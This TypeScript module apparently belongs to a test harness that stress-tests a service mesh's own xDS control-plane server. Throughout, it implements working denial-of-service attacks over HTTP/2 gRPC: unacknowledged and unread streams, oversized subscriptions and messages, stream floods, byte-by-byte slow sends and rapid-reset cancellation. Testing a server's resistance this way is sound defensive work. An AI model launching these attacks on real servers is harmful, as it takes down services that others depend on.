import { once } from "node:events";
import { connect, constants, type ClientHttp2Session, type ClientHttp2Stream } from "node:http2";
import { DeltaDiscoveryRequestSchema, encode } from "@osm/envoy-api";
import { typeUrls, type XdsType } from "@osm/model";

/** An xDS server, and a good token of a pod of its mesh. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly serverName: string;
  /** What the server is trusted by, PEM. */
  readonly root: string;
  readonly token: string;
}

/** A connection in hands that do not mean well. */
interface Line {
  readonly session: ClientHttp2Session;
  open(): ClientHttp2Stream;
  /** The harm is done, or under way. */
  readonly struck: () => void;
  /** Resolves when the server has had enough of the connection. */
  readonly ended: Promise<unknown>;
}

const path = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
const megabyte = 1024 * 1024;

/** Each does its worst on one connection, until the server ends that or there is nothing more to be done. */
const deeds = {
  "never-ack": async ({ open, struck, ended }) => {
    const streams = several(16, open);
    for (const stream of streams) {
      stream.on("data", struck);
      askAll(stream);
    }
    await Promise.race([ended, ...streams.map(closed)]);
  },
  "never-read": async ({ open, struck, ended }) => {
    const streams = several(16, open);
    for (const stream of streams) askAll(stream);
    struck();
    await Promise.race([ended, ...streams.map(closed)]);
  },
  "a-million-names": async ({ open, struck }) => {
    const stream = open().resume();
    for (let request = 0; request < 100 && !stream.closed; request++) {
      const names = Array.from({ length: 10_000 }, (_, at) => `cluster-${request}-${at}`);
      await written(stream, message(encode(DeltaDiscoveryRequestSchema, { typeUrl: typeUrls.EDS, resourceNamesSubscribe: names })));
    }
    struck();
  },
  "a-hundred-megabytes": async ({ open, struck }) => {
    const stream = open().resume();
    const head = Buffer.alloc(5);
    head.writeUInt32BE(100 * megabyte, 1);
    await written(stream, head);
    const part = Buffer.alloc(megabyte / 16);
    for (let sent = 0; sent < 100 * megabyte && !stream.closed; sent += part.length) await written(stream, part);
    struck();
  },
  "ten-thousand-streams": async ({ open, struck, ended }) => {
    const streams = several(10_000, open);
    for (const stream of streams) askAll(stream.resume());
    struck();
    await Promise.race([ended, ...streams.slice(0, 1).map(closed)]);
  },
  "byte-by-byte": async ({ open, struck }) => {
    const stream = open().resume();
    for (const byte of message(Buffer.alloc(100))) {
      if (stream.closed) return;
      await written(stream, Buffer.from([byte]));
      struck();
      // Slowness is the attack.
      await Promise.race([closed(stream), new Promise((resolve) => setTimeout(resolve, 1000))]);
    }
  },
  "rapid-reset": async ({ session, open, struck }) => {
    for (let streams = 1; !session.closed && !session.destroyed && streams < 5000; streams++) {
      open().close(constants.NGHTTP2_CANCEL);
      if (streams % 100 === 0) await new Promise(setImmediate);
    }
    struck();
  },
  /** No attack, but many of them are a storm. */
  "come-and-go": async ({ open, struck, ended }) => {
    const stream = open();
    const served = once(stream, "data");
    askAll(stream);
    await Promise.race([served, ended, closed(stream)]);
    struck();
  },
} satisfies Readonly<Record<string, (line: Line) => Promise<void>>>;

export type Attack = keyof typeof deeds;
/** What a proxy can do that does not mean well. */
export const worst: readonly Attack[] = ["never-ack", "never-read", "a-million-names", "a-hundred-megabytes", "ten-thousand-streams", "byte-by-byte", "rapid-reset"];
export const attacks: readonly Attack[] = [...worst, "come-and-go"];

/** One connection's worth of it. `struck` is called once harm is under way, perhaps several times. Never rejects. */
export async function strike(attack: Attack, { host, port, serverName, root, token }: Target, struck: () => void): Promise<void> {
  const session = connect(`https://${host}:${port}`, { ca: root, servername: serverName });
  const ended = once(session, "close").catch(() => undefined);
  session.on("error", () => undefined);
  const headers = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers", authorization: `Bearer ${token}` };
  const open = () => session.request(headers).on("error", () => undefined);
  try {
    await Promise.race([once(session, "connect").then(() => deeds[attack]({ session, open, struck, ended })), ended]);
  } catch {
    // The server has hung up on it.
  } finally {
    session.destroy();
  }
}

function several(count: number, open: () => ClientHttp2Stream): readonly ClientHttp2Stream[] {
  return Array.from({ length: count }, open);
}

function askAll(stream: ClientHttp2Stream): void {
  for (const type of ["CDS", "LDS", "EDS", "SDS"] as const satisfies readonly XdsType[]) {
    const names = type === "SDS" ? ["identity", "trust"] : [];
    stream.write(message(encode(DeltaDiscoveryRequestSchema, { typeUrl: typeUrls[type], resourceNamesSubscribe: names })));
  }
}

/** As gRPC frames it: not compressed, its length, itself. */
function message(bytes: Uint8Array): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([head, bytes]);
}

async function written(stream: ClientHttp2Stream, bytes: Buffer): Promise<void> {
  if (!stream.write(bytes)) await Promise.race([once(stream, "drain"), closed(stream)]);
}

async function closed(stream: ClientHttp2Stream): Promise<void> {
  if (!stream.closed) await once(stream, "close").catch(() => undefined);
}
